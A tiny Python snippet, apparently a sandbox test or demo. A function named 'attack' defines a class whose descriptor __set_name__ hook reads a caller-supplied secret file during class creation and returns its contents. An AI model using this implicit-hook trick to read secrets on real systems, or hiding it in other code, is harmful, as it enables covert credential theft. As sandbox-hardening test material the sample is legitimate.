# Code that runs when a descriptor gets its name.
PATHS = []


class Named:
    def __set_name__(self, owner, name):
        owner.found = open(PATHS[-1]).read()


def attack(secret_path):
    PATHS.append(secret_path)

    class Holder:
        field = Named()

    return Holder.found
